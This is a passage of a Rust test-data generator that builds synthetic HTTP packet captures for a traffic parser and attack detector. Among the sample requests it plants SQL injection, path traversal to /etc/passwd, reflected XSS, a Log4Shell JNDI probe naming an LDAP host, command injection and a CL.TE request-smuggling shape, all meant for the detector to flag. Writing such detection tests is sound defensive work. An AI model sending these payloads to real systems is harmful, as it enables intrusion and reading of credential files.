                let body = format!("[{}]", items.join(","));
                let mut resp = http_response(
                    "200 OK",
                    &[
                        ("Content-Type", "application/json"),
                        ("Transfer-Encoding", "chunked"),
                    ],
                    b"",
                );
                resp.extend_from_slice(&chunked(body.as_bytes(), 256));
                (
                    req(
                        "GET",
                        &format!("/api/v1/audit?user={id}"),
                        with_auth(&[]),
                        b"",
                    ),
                    resp,
                )
            }
            _ => (
                req(
                    "PUT",
                    &format!("/api/v1/users/{id}"),
                    with_auth(&[("Content-Type", "application/json")]),
                    format!(r#"{{"name":"user{id}","role":"member"}}"#).as_bytes(),
                ),
                http_response("200 OK", &json_headers(), user_json(id).as_bytes()),
            ),
        }
    }

    /// Attack-like and vulnerability-revealing transactions, one per special connection.
    fn special(n: u32) -> Vec<(Vec<u8>, Vec<u8>)> {
        let ua = [("User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)")];
        let html = [("Content-Type", "text/html; charset=utf-8")];
        match n {
            0 => vec![(
                http_request("GET", "/api/v1/products?id=1'%20OR%20'1'='1", &ua, b""),
                http_response("200 OK", &json_headers(), br#"[{"id":1,"name":"bolt"}]"#),
            )],
            1 => vec![(
                http_request("GET", "/static/../../etc/passwd", &[("User-Agent", "curl/8.5.0")], b""),
                http_response("404 Not Found", &html, b"<html><body>Not Found</body></html>"),
            )],
            2 => vec![(
                http_request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &[("User-Agent", UA[0])], b""),
                http_response(
                    "200 OK",
                    &html,
                    b"<html><body>Results for <script>alert(1)</script></body></html>",
                ),
            )],
            3 => vec![(
                http_request(
                    "POST",
                    "/api/v1/login",
                    &[("User-Agent", "python-requests/2.31.0"), ("Content-Type", "application/json"), ("X-Forwarded-For", "203.0.113.9")],
                    br#"{"user":"admin' --","password":"x"}"#,
                ),
                http_response(
                    "500 Internal Server Error",
                    &[("Content-Type", "text/plain"), ("Server", "Apache/2.2.8 (Ubuntu) PHP/5.2.4")],
                    b"java.sql.SQLException: syntax error near \"--\"\n\tat com.example.db.Query.run(Query.java:42)\n\tat com.example.api.Login.handle(Login.java:17)\n",
                ),
            )],
            4 => vec![(
                http_request(
                    "GET",
                    "/api/v1/health",
                    &[("User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"), ("X-Forwarded-For", "198.51.100.7")],
                    b"",
                ),
                http_response("200 OK", &json_headers(), br#"{"status":"ok"}"#),
            )],
            _ => vec![(
                http_request("GET", "/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", &[("User-Agent", "curl/8.5.0")], b""),
                http_response("403 Forbidden", &html, b"<html><body>Forbidden</body></html>"),
            )],
        }
    }

    pub fn case() -> Case {
        let mut frames: Vec<(Ts, Vec<u8>)> = vec![];
        let mut requests = 0;
        let conns = 50u32;
        for c in 0..conns {
            let client = format!("10.1.{}.{}:{}", c % 3, 20 + c, 40000 + c * 17);
            let server = if c % 5 == 4 { "10.1.0.10:8080" } else { SERVER };
            // Connections start 40 ms apart and overlap (segments 1 ms apart,
            // a fixed odd microsecond offset so no two frames share a time).
            let t0 = Ts::from_micros(EPOCH_2024_05_01, c * 40_000 + c * 7);
            let mut conv = TcpConversation::new(&client, server)
                .isn(1_000_000 + c * 100_003, 2_000_000 + c * 200_003)
                .start(t0);
            let pairs = if c % 8 == 3 {
                special(c / 8)
            } else {
                (0..1 + c % 3).map(|k| transaction(c, k)).collect()
            };
            for (rq, rs) in pairs {
                conv = conv.request(&rq).response(&rs);
                requests += 1;
            }
            let vxlan = c % 2 == 0;
            frames.extend(conv.frames(|s| {
                if vxlan {
                    outer()
                        .udp(49152 + (c as u16 % 16), 4789)
                        .udp_zero_checksum()
                        .vxlan(7 + c % 2 * 10)
                        .append(ethernet_for(s.dir))
                } else {
                    ethernet_for(s.dir)
                }
            }));
        }
        frames.sort_by_key(|(ts, _)| *ts);
        let stages = format!(
            "- `tw-capture`: {} `frame` records.\n\
             - `tw-decap`: as many `packet` records; connections with an even number arrive over \
             VXLAN (VNI 7) from 10.0.0.5, the others as plain Ethernet.\n\
             - Later stages: 50 connections, {requests} HTTP transactions; `tw-detect` should flag \
             the SQL injections (`id=1' OR '1'='1` with sqlmap's User-Agent, the `admin' --` \
             login), the path traversal (`/static/../../etc/passwd`), the reflected XSS \
             (`<script>alert(1)</script>`), the Log4Shell probe in User-Agent and the command \
             injection (`;cat /etc/passwd`); passive findings: a Java stack trace and an old \
             `Apache/2.2.8` banner in the 500 response, e-mail addresses in user JSON.",
            frames.len()
        );
        Case {
            name: "sample",
            file: "input.pcap",
            readme: readme(
                "sample",
                "The bundled sample capture that the README's first command runs on: a small, \
                 realistic mix of a JSON API (users, orders, products, audit log) seen through \
                 a mirror, half of it VXLAN-encapsulated, with a few attacks mixed in. \
                 Responses include gzip (`Content-Encoding`) and chunked transfer encoding.",
                "50 TCP connections from clients 10.1.{0,1,2}.20-69 to 10.1.0.9:80 and \
                 10.1.0.10:8080, 1-3 keep-alive transactions each, connections starting 40 ms \
                 apart and overlapping. Every eighth connection (3, 11, 19, ...) carries one \
                 attack-like request instead.",
                "input.pcap",
                &stages,
            ),
            bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
            http_requests: Some(requests),
            tshark_args: &[],
            tshark_warnings: false,
        }
    }
}

/// Writes every case under `root`.
pub fn generate(root: &Path) -> anyhow::Result<()> {
    for case in cases() {
        let dir = root.join(case.name);
        std::fs::create_dir_all(&dir)?;
        std::fs::write(dir.join(case.file), &case.bytes)?;
        std::fs::write(dir.join("README.md"), &case.readme)?;
    }
    Ok(())
}

#[allow(dead_code)]
fn main() -> anyhow::Result<()> {
    let root = std::env::args().nth(1).unwrap_or_else(|| "testdata".into());
    generate(Path::new(&root))?;
    for case in cases() {
        eprintln!("{:<18} {:>7} bytes", case.name, case.bytes.len());
    }
    Ok(())
}

/// The HTTP parser's cases: one feature (or failure mode) each.
mod http {
    use super::*;
    use std::io::Write as _;

    /// A case whose capture is plain Ethernet frames.
    struct Spec {
        name: &'static str,
        what: String,
        how: String,
        /// What `tw-reassemble` should output, when more than plain connections.
        tcp: &'static str,
        /// What `tw-http-parse` should output (after the `tw-capture` line).
        http: String,
        frames: Vec<(Ts, Vec<u8>)>,
        /// Frames tshark shows as HTTP/1 requests (pipelined requests in one
        /// segment count once; tshark does not parse PROXY headers or HTTP/2 here).
        requests: usize,
        /// tshark reports warnings on purpose (see [`Case::tshark_warnings`]).
        warnings: bool,
    }

    fn case(spec: Spec) -> Case {
        let stages = format!(
            "- `tw-capture`: {} `frame` records.\n\
             - `tw-decap`: one `packet` per frame, Ethernet/IPv4, no tunnel.\n\
             - `tw-reassemble`: {}\n\
             - `tw-http-parse`: {}",
            spec.frames.len(),
            if spec.tcp.is_empty() {
                "each connection opened by its handshake and closed by FIN, no gaps."
            } else {
                spec.tcp
            },
            spec.http
        );
        Case {
            name: spec.name,
            file: "input.pcap",
            readme: readme(spec.name, &spec.what, &spec.how, "input.pcap", &stages),
            bytes: pcap_bytes(LinkType::Ethernet, false, &spec.frames),
            http_requests: Some(spec.requests),
            tshark_args: &[],
            tshark_warnings: spec.warnings,
        }
    }

    /// `ms` milliseconds after the epoch of every capture.
    fn at(ms: u32) -> Ts {
        Ts::from_micros(EPOCH_2024_05_01, ms * 1000)
    }

    fn eth(conv: &TcpConversation) -> Vec<(Ts, Vec<u8>)> {
        wrap(conv, |s| ethernet_for(s.dir))
    }

    /// The frames of `conv` without the segments `keep` refuses (index, segment).
    fn eth_filtered(
        conv: &TcpConversation,
        keep: impl Fn(usize, &Segment) -> bool,
    ) -> Vec<(Ts, Vec<u8>)> {
        conv.segments()
            .iter()
            .enumerate()
            .filter(|(i, s)| keep(*i, s))
            .map(|(_, s)| {
                (
                    s.ts,
                    ethernet_for(s.dir)
                        .append(s.ip_frame(conv.get_mss()))
                        .build(),
                )
            })
            .collect()
    }

    fn merge(parts: Vec<Vec<(Ts, Vec<u8>)>>) -> Vec<(Ts, Vec<u8>)> {
        let mut all: Vec<(Ts, Vec<u8>)> = parts.into_iter().flatten().collect();
        all.sort_by_key(|(ts, _)| *ts);
        all
    }

    /// A raw message: start line, headers as given (no Content-Length added), body.
    fn raw(start: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
        let mut s = format!("{start}\r\n");
        for (k, v) in headers {
            let _ = write!(s, "{k}: {v}\r\n");
        }
        s.push_str("\r\n");
        let mut v = s.into_bytes();
        v.extend_from_slice(body);
        v
    }

    fn cat(parts: &[&[u8]]) -> Vec<u8> {
        parts.concat()
    }

    /// `n` bytes of readable, position-dependent text (a gap shows where it fell).
    fn text(label: &str, n: usize) -> Vec<u8> {
        let mut v = Vec::with_capacity(n + 64);
        let mut line = 0;
        while v.len() < n {
            let _ = writeln!(v, "{label} line {line:04} ................................");
            line += 1;
        }
        v.truncate(n);
        v
    }

    fn text_plain() -> [(&'static str, &'static str); 1] {
        [("Content-Type", "text/plain")]
    }

    pub fn cases() -> Vec<Case> {
        [
            keepalive_pipelined(),
            chunked_trailers(),
            gzip_br_zstd(),
            head_204_304(),
            continue_100(),
            smuggling_cl_te(),
            close_delimited(),
            http09_simple(),
            midstream(),
            gap_resync(),
            proxy_v1_v2(),
            xff_real_ip(),
            h2c_prior_knowledge(),
            h2c_upgrade(),
            connect_websocket(),
            non_http(),
            unanswered(),
        ]
        .into_iter()
        .map(case)
        .collect()
    }

    fn keepalive_pipelined() -> Spec {
        let plain = text_plain();
        let pipelined = cat(&[
            &http_request("GET", "/a", &[("User-Agent", "pipeline/1")], b""),
            &http_request("GET", "/b", &[("User-Agent", "pipeline/1")], b""),
            &http_request("POST", "/c", &[("Content-Type", "text/plain")], b"third=3"),
        ]);
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&pipelined)
            .response(&http_response("200 OK", &plain, b"answer to /a\n"))
            .response(&cat(&[
                &http_response("404 Not Found", &plain, b"no /b here\n"),
                &http_response("201 Created", &plain, b"made /c\n"),
            ]))
            .request(&http_request("GET", "/d", &[], b""))
            .response(&http_response("200 OK", &plain, b"answer to /d\n"));
        Spec {
            name: "http-keepalive-pipelined",
            what: "Keep-alive with pipelining: the client sends three requests (`GET /a`, \
                   `GET /b`, `POST /c` with a 7-byte body) in one segment before any response; \
                   the server answers `/a` alone, then `/b` and `/c` together in one segment; \
                   then a fourth request `GET /d` is sent and answered the ordinary way."
                .into(),
            how: "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80, Content-Length framing \
                  everywhere."
                .into(),
            tcp: "",
            http: "four `http` records, `seq` 0-3, paired in request order: `GET /a` -> 200 \
                   (`answer to /a\\n`), `GET /b` -> 404, `POST /c` (body `third=3`) -> 201, \
                   `GET /d` -> 200; no anomalies."
                .into(),
            frames: eth(&conv),
            requests: 2,
            warnings: false,
        }
    }

    fn chunked_trailers() -> Spec {
        // Request: chunk extensions (`;name=value`, a quoted value), no trailers.
        let req_body = b"5;ext=1\r\nhello\r\n7;name=\"quoted;value\"\r\n, world\r\n0\r\n\r\n";
        let req = raw(
            "POST /upload HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Transfer-Encoding", "chunked"),
                ("Content-Type", "text/plain"),
            ],
            req_body,
        );
        // Response: chunks of several sizes (upper and lower case hex), an
        // extension on the last chunk, then two trailer fields.
        let resp_body = cat(&[
            b"1A\r\nabcdefghijklmnopqrstuvwxyz\r\n",
            b"a;x=y\r\n0123456789\r\n",
            b"0;final\r\nX-Checksum: sha1-5f0c\r\nServer-Timing: db;dur=53\r\n\r\n",
        ]);
        let resp = raw(
            "HTTP/1.1 200 OK",
            &[
                ("Content-Type", "text/plain"),
                ("Transfer-Encoding", "chunked"),
                ("Trailer", "X-Checksum, Server-Timing"),
            ],
            &resp_body,
        );
        // A second transaction: a large chunked body cut into small segments, so
        // chunk-size lines and CRLFs straddle segment boundaries.
        let big = text("chunked", 3000);
        let mut big_chunked = vec![];
        for c in big.chunks(700) {
            big_chunked.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
            big_chunked.extend_from_slice(c);
            big_chunked.extend_from_slice(b"\r\n");
        }
        big_chunked.extend_from_slice(b"0\r\n\r\n");
        let resp2 = raw(
            "HTTP/1.1 200 OK",
            &[
                ("Content-Type", "text/plain"),
                ("Transfer-Encoding", "chunked"),
            ],
            &big_chunked,
        );
        let conv = TcpConversation::new(CLIENT, SERVER)
            .mss(500)
            .request(&req)
            .response(&resp)
            .request(&http_request("GET", "/big", &[], b""))
            .response(&resp2);
        Spec {
            name: "http-chunked-trailers",
            what: "Chunked transfer coding in both directions: a chunked request with chunk \
                   extensions (`5;ext=1`, `7;name=\"quoted;value\"`); a chunked response with \
                   upper- and lower-case hex sizes, an extension on the last chunk and two \
                   trailer fields (`X-Checksum`, `Server-Timing`); then a 3000-byte chunked \
                   body (700-byte chunks) sent in 500-byte segments so that chunk-size lines \
                   straddle segments."
                .into(),
            how: "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80, MSS 500.".into(),
            tcp: "",
            http: "two `http` records. `seq` 0: `POST /upload`, request body `hello, world` \
                   (12 bytes) -> 200 with body `abcdefghijklmnopqrstuvwxyz0123456789` (36 \
                   bytes) and `trailers` `[[\"X-Checksum\",\"sha1-5f0c\"],[\"Server-Timing\",\
                   \"db;dur=53\"]]`. `seq` 1: `GET /big` -> 200, `body_len` 3000, the text \
                   intact. No anomalies."
                .into(),
            frames: eth(&conv),
            requests: 2,
            warnings: false,
        }
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(6));
        e.write_all(data).expect("in memory");
        e.finish().expect("in memory")
    }

    fn zlib(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(6));
        e.write_all(data).expect("in memory");
        e.finish().expect("in memory")
    }

    fn raw_deflate(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(6));
        e.write_all(data).expect("in memory");
        e.finish().expect("in memory")
    }

    fn brotli(data: &[u8]) -> Vec<u8> {
        let mut out = vec![];
        {
            let mut w = brotli::CompressorWriter::new(&mut out, 4096, 5, 22);
            w.write_all(data).expect("in memory");
        }
        out
    }

    fn zstd(data: &[u8]) -> Vec<u8> {
        zstd::encode_all(data, 3).expect("in memory")
    }

    fn gzip_br_zstd() -> Spec {
        type Enc = fn(&[u8]) -> Vec<u8>;
        let variants: [(&str, &str, Enc); 6] = [
            ("/gzip", "gzip", gzip),
            ("/deflate-zlib", "deflate", zlib),
            ("/deflate-raw", "deflate", raw_deflate),
            ("/br", "br", brotli),
            ("/zstd", "zstd", zstd),
            ("/gzip-br", "gzip, br", |d| brotli(&gzip(d))),
        ];
        let mut conv = TcpConversation::new(CLIENT, SERVER);
        let mut lines = vec![];
        for (uri, coding, enc) in variants {
            let body = format!(
                "{{\"path\":\"{uri}\",\"coding\":\"{coding}\",\"filler\":\"{}\"}}\n",
                "compressible ".repeat(40)
            );
            let encoded = enc(body.as_bytes());
            conv = conv
                .request(&http_request(
                    "GET",
                    uri,
                    &[("Accept-Encoding", "gzip, deflate, br, zstd")],
                    b"",
                ))
                .response(&http_response(
                    "200 OK",
                    &[
                        ("Content-Type", "application/json"),
                        ("Content-Encoding", coding),
                    ],
                    &encoded,
                ));
            lines.push(format!(
                "`GET {uri}` -> 200 `Content-Encoding: {coding}` ({} bytes on the wire, {} decoded)",
                encoded.len(),
                body.len()
            ));
        }
        Spec {
            name: "http-gzip-br-zstd",
            what: "Content codings, one response each: gzip, deflate as zlib (RFC 1950), \
                   deflate as raw deflate (what some servers send), brotli, zstd, and the \
                   layered `Content-Encoding: gzip, br` (gzip applied first, then brotli)."
                .into(),
            how: format!(
                "One keep-alive TCP connection 10.1.0.7:51234 -> 10.1.0.9:80, six \
                 transactions. Each body is a JSON line naming its path and coding plus 520 \
                 bytes of filler, compressed in the generator with flate2 (level 6), brotli \
                 (quality 5, window 22) and zstd (level 3): {}. tshark decodes the gzip, deflate \
                 and br bodies; it warns \"Decompression failed\" on the zstd and layered ones \
                 (its build lacks zstd), so the case is marked as drawing tshark warnings.",
                lines.join("; ")
            ),
            tcp: "",
            http: "six `http` records, each response `body_b64` holding the decoded JSON \
                   line (`{\"path\":\"/gzip\",\"coding\":\"gzip\",...}` and so on), `body_len` \
                   the decoded length, `truncated` false, no anomalies."
                .into(),
            frames: eth(&conv),
            requests: 6,
            warnings: true,
        }
    }

    fn head_204_304() -> Spec {
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&http_request("HEAD", "/file.bin", &[], b""))
            .response(&raw(
                "HTTP/1.1 200 OK",
                &[
                    ("Content-Type", "application/octet-stream"),
                    ("Content-Length", "123456"),
                ],
                b"",
            ))
            .request(&http_request("DELETE", "/items/7", &[], b""))
            .response(&raw("HTTP/1.1 204 No Content", &[("Server", "app")], b""))
            .request(&http_request(
                "GET",
                "/style.css",
                &[("If-None-Match", "\"abc123\"")],
                b"",
            ))
            .response(&raw(
                "HTTP/1.1 304 Not Modified",
                &[("ETag", "\"abc123\""), ("Content-Length", "5120")],
                b"",
            ))
            .request(&http_request("GET", "/after", &[], b""))
            .response(&http_response("200 OK", &text_plain(), b"still in sync\n"));
        Spec {
            name: "http-head-204-304",
            what: "Responses that never have a body whatever their headers say: a `HEAD` \
                   answered with `Content-Length: 123456` and no body, a `204 No Content`, a \
                   `304 Not Modified` carrying `Content-Length: 5120`; then a normal `GET` \
                   whose response must still be found."
                .into(),
            how: "One keep-alive TCP connection 10.1.0.7:51234 -> 10.1.0.9:80, four \
                  transactions."
                .into(),
            tcp: "",
            http: "four `http` records: `HEAD /file.bin` -> 200 with `body_len` 0; \
                   `DELETE /items/7` -> 204; `GET /style.css` -> 304, `body_len` 0; `GET \
                   /after` -> 200 with body `still in sync\\n`. No anomalies."
                .into(),
            frames: eth(&conv),
            requests: 4,
            warnings: false,
        }
    }

    fn continue_100() -> Spec {
        let body = br#"{"name":"large upload"}"#;
        let head = raw(
            "POST /upload HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Content-Type", "application/json"),
                ("Content-Length", &body.len().to_string()),
                ("Expect", "100-continue"),
            ],
            b"",
        );
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&head)
            .response(b"HTTP/1.1 100 Continue\r\n\r\n")
            .request(body)
            .response(&http_response("201 Created", &text_plain(), b"stored\n"))
            .request(&http_request("GET", "/page", &[], b""))
            .response(&raw(
                "HTTP/1.1 103 Early Hints",
                &[("Link", "</style.css>; rel=preload; as=style")],
                b"",
            ))
            .response(&cat(&[
                b"HTTP/1.1 102 Processing\r\n\r\n",
                &http_response("200 OK", &text_plain(), b"page\n"),
            ]));
        Spec {
            name: "http-100-continue",
            what: "Interim responses: a `POST` with `Expect: 100-continue` whose body is sent \
                   only after the server's `100 Continue`; then a `GET` answered by `103 Early \
                   Hints`, then `102 Processing` and the final `200` in one segment."
                .into(),
            how: "One keep-alive TCP connection 10.1.0.7:51234 -> 10.1.0.9:80.".into(),
            tcp: "",
            http: "two `http` records. `seq` 0: `POST /upload` with its 23-byte JSON body -> \
                   201, `interim` `[100]`. `seq` 1: `GET /page` -> 200, `interim` `[103,102]`. \
                   The interim responses never become transactions of their own."
                .into(),
            frames: eth(&conv),
            requests: 2,
            warnings: false,
        }
    }

    fn smuggling_cl_te() -> Spec {
        // CL.TE: a front end honouring Content-Length (6) would forward the
        // smuggled `GET /admin` as part of the body; a back end honouring
        // chunked sees it as a second request. We follow chunked (RFC 9112 §6.3).
        let smuggle = cat(&[
            &raw(
                "POST /search HTTP/1.1",
                &[
                    ("Host", "app.example"),
                    ("Content-Length", "6"),
                    ("Transfer-Encoding", "chunked"),
                ],
                b"0\r\n\r\n",
            ),
            b"GET /admin HTTP/1.1\r\nHost: app.example\r\n\r\n",
        ]);
        let dup = raw(
            "POST /dup HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Content-Length", "5"),
                ("Content-Length", "5"),
            ],
            b"hello",
        );
        let conflict = raw(
            "POST /conflict HTTP/1.1",
            &[
                ("Host", "app.example"),
                ("Content-Length", "5"),
                ("Content-Length", "11"),
            ],
            b"hello",
        );
        let plain = text_plain();
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&smuggle)
            .response(&cat(&[
                &http_response("200 OK", &plain, b"results\n"),
                &http_response("403 Forbidden", &plain, b"admin only\n"),
            ]))
            .request(&dup)
            .response(&http_response("200 OK", &plain, b"dup ok\n"))
            .request(&conflict)
            .response(&http_response("400 Bad Request", &plain, b"bad length\n"))
            .request(&http_request("GET", "/next", &[], b""))
            .response(&http_response("200 OK", &plain, b"next\n"));
        Spec {
            name: "http-smuggling-cl-te",
            what: "Request-smuggling shapes: a `POST` carrying both `Content-Length: 6` and \
                   `Transfer-Encoding: chunked` with an empty chunked body and a `GET /admin` \
                   right behind it (CL.TE); a request with the same `Content-Length` twice; \
                   one with two different `Content-Length` values; then a normal request."
                .into(),
            how: "One keep-alive TCP connection 10.1.0.7:51234 -> 10.1.0.9:80; the server \
                  answers each request it sees (the smuggled one too)."
                .into(),
            tcp: "",
            http: "five `http` records: `POST /search` (empty body, chunked wins) -> 200 with \
                   anomaly `cl_te_conflict`; the smuggled `GET /admin` -> 403 as a transaction \
                   of its own; `POST /dup` (body `hello`) -> 200 with \
                   `duplicate_content_length`; `POST /conflict` (first value used, body \
                   `hello`) -> 400 with `duplicate_content_length` and \
                   `conflicting_content_length`; `GET /next` -> 200 without anomalies."
                .into(),
            frames: eth(&conv),
            requests: 3,
            warnings: true,
        }
    }

    fn close_delimited() -> Spec {
        let body10 = text("http/1.0", 2500);
        let a = TcpConversation::new(CLIENT, SERVER)
            .request(b"GET /legacy HTTP/1.0\r\nHost: app.example\r\n\r\n")
            .response(&raw(
                "HTTP/1.0 200 OK",
                &[("Content-Type", "text/plain"), ("Server", "legacy/0.1")],
                &body10,
            ));
        let body11 = text("http/1.1 close", 1000);
        let b = TcpConversation::new("10.1.0.7:51235", SERVER)
            .start(at(100))
            .request(&http_request("GET", "/stream", &[], b""))
            .response(&raw(
                "HTTP/1.1 200 OK",
                &[("Content-Type", "text/plain"), ("Connection", "close")],
                &body11,
            ));
        Spec {
            name: "http-close-delimited",
            what: "Responses without Content-Length or chunked coding, whose body ends when \
                   the server closes the connection: an HTTP/1.0 response (2500 bytes, two \
                   segments) and an HTTP/1.1 response with `Connection: close` (1000 bytes)."
                .into(),
            how: "Two TCP connections from 10.1.0.7 (ports 51234 and 51235) to \
                  10.1.0.9:80, the second 100 ms later; each ends with FIN both ways."
                .into(),
            tcp: "",
            http: "two `http` records, emitted at the FIN: `GET /legacy` (HTTP/1.0) -> 200 \
                   with `body_len` 2500, and `GET /stream` -> 200 with `body_len` 1000; \
                   `truncated` false, no anomalies."
                .into(),
            frames: merge(vec![eth(&a), eth(&b)]),
            requests: 2,
            warnings: false,
        }
    }

    fn http09_simple() -> Spec {
        let passwd = b"root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
        let a = TcpConversation::new("10.1.0.7:51240", SERVER)
            .request(b"GET /static/../../../../etc/passwd\r\n")
            .response(passwd);
        let refusal = b"<html><body>HTTP/0.9 is not supported</body></html>\n";
        let b = TcpConversation::new("10.1.0.7:51241", SERVER)
            .start(at(100))
            .request(b"GET /index.html\r\n")
            .response(&raw(
                "HTTP/1.1 400 Bad Request",
                &[
                    ("Content-Type", "text/html"),
                    ("Content-Length", &refusal.len().to_string()),
                    ("Connection", "close"),
                ],
                refusal,
            ));
        Spec {
            name: "http-09-simple",
            what: "HTTP/0.9 simple requests (`GET target` and CRLF: no version, no headers), \
                   which servers still answer and scanners use to slip past HTTP/1.x-only \
                   sensors. The first server answers the 0.9 way: the file's bytes, no status \
                   line, until it closes. The second refuses with an HTTP/1.1 400."
                .into(),
            how: "Two TCP connections from 10.1.0.7 (ports 51240 and 51241) to 10.1.0.9:80, \
                  the second 100 ms later; each ends with FIN both ways."
                .into(),
            tcp: "",
            http: "two `http` records with anomaly `http09_request`: `GET \
                   /static/../../../../etc/passwd` (version `HTTP/0.9`) paired with a \
                   response of status 0, version `HTTP/0.9`, no headers and the 133-byte \
                   passwd text as its body; `GET /index.html` (version `HTTP/0.9`) -> 400. \
                   `tw-detect` reports the first as a traversal that likely succeeded."
                .into(),
            frames: merge(vec![eth(&a), eth(&b)]),
            // tshark waits for a version that never comes: it counts none.
            requests: 0,
            warnings: false,
        }
    }

    fn midstream() -> Spec {
        let plain = text_plain();
        let conv = TcpConversation::new(CLIENT, SERVER)
            .request(&http_request("GET", "/download", &[], b""))
            .response(&http_response("200 OK", &plain, &text("download", 4000)))
            .request(&http_request("GET", "/second", &[], b""))
            .response(&http_response("200 OK", &plain, b"second\n"))
            .request(&http_request("POST", "/third", &[], b"x=3"))
            .response(&http_response("201 Created", &plain, b"third\n"));
        // Segments: 0-2 handshake, 3 request, 4 ACK, 5-7 the response (3
        // segments at MSS 1460). The capture starts at segment 6: inside the body.
        let frames = eth_filtered(&conv, |i, _| i >= 6);
        Spec {
            name: "http-midstream",
            what: "A capture that starts in the middle of a connection, inside a response \
                   body: no handshake, no request, no response head; the connection then \
                   carries two more keep-alive transactions."
                .into(),
            how: "The connection 10.1.0.7:51234 -> 10.1.0.9:80 is generated whole (`GET \
                  /download` -> a 4000-byte body in three segments, `GET /second`, `POST \
                  /third`), then its first six segments (handshake, request, its ACK and the \
                  first response segment) are left out of the capture."
                .into(),
            tcp: "the connection opened mid-stream (`midstream` true, no handshake seen), its streams starting at the first bytes captured; closed by FIN.",
            http: "the connection is picked up mid-stream; the tail of the `/download` body \
                   is skipped (counted under `skipped` bytes) while looking for a message \
                   start; two `http` records follow: `GET /second` -> 200 and `POST /third` \
                   (body `x=3`) -> 201, paired correctly."
                .into(),
            frames,
            requests: 2,
            warnings: true,
        }
    }

    fn gap_resync() -> Spec {
        let plain = text_plain();
        // Connection A: a Content-Length body loses its middle segment.
        let a = TcpConversation::new(CLIENT, SERVER)
            .request(&http_request("GET", "/report", &[], b""))
            .response(&http_response("200 OK", &plain, &text("report", 4000)))
            .request(&http_request("GET", "/after-gap", &[], b""))
            .response(&http_response("200 OK", &plain, b"after gap\n"))
            .request(&http_request("GET", "/last", &[], b""))
            .response(&http_response("200 OK", &plain, b"last\n"));
        // Segments 0-2 handshake, 3 request, 4 ACK, 5-7 response: drop 6.
        let fa = eth_filtered(&a, |i, _| i != 6);
        // Connection B: a chunked body loses its middle segment, so the chunk
        // framing is lost and the parser must find the next response head.
        let chunks = {
            let body = text("chunked", 4000);
            let mut v = vec![];
            for c in body.chunks(900) {
                v.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
                v.extend_from_slice(c);
                v.extend_from_slice(b"\r\n");
            }
            v.extend_from_slice(b"0\r\n\r\n");
            v
        };
        let b = TcpConversation::new("10.1.0.7:51236", SERVER)
            .start(at(100))
            .request(&http_request("GET", "/feed", &[], b""))
            .response(&raw(
                "HTTP/1.1 200 OK",
                &[
                    ("Content-Type", "text/plain"),
                    ("Transfer-Encoding", "chunked"),
                ],
                &chunks,
            ))
            .request(&http_request("GET", "/after-chunked-gap", &[], b""))
            .response(&http_response("200 OK", &plain, b"resynced\n"));
        let fb = eth_filtered(&b, |i, _| i != 6);
        Spec {
            name: "http-gap-resync",
            what: "Capture loss inside a body on keep-alive connections. Connection A: the \
                   middle segment (1460 bytes) of a 4000-byte Content-Length body is missing; \
                   the body length tells where the next message starts. Connection B: the \
                   middle segment of a chunked body is missing, so chunk framing is lost and \
                   the parser must look for the next response head. Both connections go on \
                   with more transactions."
                .into(),
            how: "Connections 10.1.0.7:51234 and 10.1.0.7:51236 -> 10.1.0.9:80 (the second \
                  100 ms later) generated whole, then segment 7 of each (the second segment \
                  of the first response) removed from the capture; the receiver's ACKs still \
                  cover it, as when a mirror port drops a frame."
                .into(),
            tcp: "a `gap` record of 1460 bytes in the server stream of each connection where the segment is missing; both connections closed by FIN.",
            http: "connection A: `GET /report` -> 200 with anomaly `gap_in_response_body`, \
                   `truncated` true, the body's two surviving parts kept; `GET /after-gap` and \
                   `GET /last` -> 200, bodies intact, no anomalies. Connection B: `GET /feed` \
                   -> 200 with `gap_in_response_body`, `truncated` true; then `GET \
                   /after-chunked-gap` -> 200 `resynced\\n` (one resync in the summary)."
                .into(),
            frames: merge(vec![fa, fb]),
            requests: 5,
            warnings: true,
        }
    }

    fn proxy_v1_v2() -> Spec {
        let plain = text_plain();
        let v1 = cat(&[
            b"PROXY TCP4 203.0.113.9 10.1.0.9 40001 80\r\n",
            &http_request("GET", "/via-proxy-v1", &[], b""),
        ]);
        let mut v2 = realip_v2([198, 51, 100, 23], [10, 1, 0, 9], 50000, 80);
        v2.extend_from_slice(&http_request("GET", "/via-proxy-v2", &[], b""));
        let a = TcpConversation::new("10.1.0.2:41000", SERVER)
            .request(&v1)
            .response(&http_response("200 OK", &plain, b"v1\n"))
            .request(&http_request("GET", "/again-v1", &[], b""))
            .response(&http_response("200 OK", &plain, b"v1 again\n"));
        let b = TcpConversation::new("10.1.0.2:41001", SERVER)
            .start(at(100))
            .request(&v2)
            .response(&http_response("200 OK", &plain, b"v2\n"));
        Spec {
            name: "http-proxy-v1-v2",
            what: "PROXY protocol headers from a load balancer (10.1.0.2) in front of the \
                   client stream: version 1 (text, `PROXY TCP4 203.0.113.9 ...`) on the first \
                   connection, version 2 (binary, TCP over IPv4, client 198.51.100.23:50000) \
                   on the second."
                .into(),
            how: "Two TCP connections 10.1.0.2:41000 and 10.1.0.2:41001 -> 10.1.0.9:80; the \
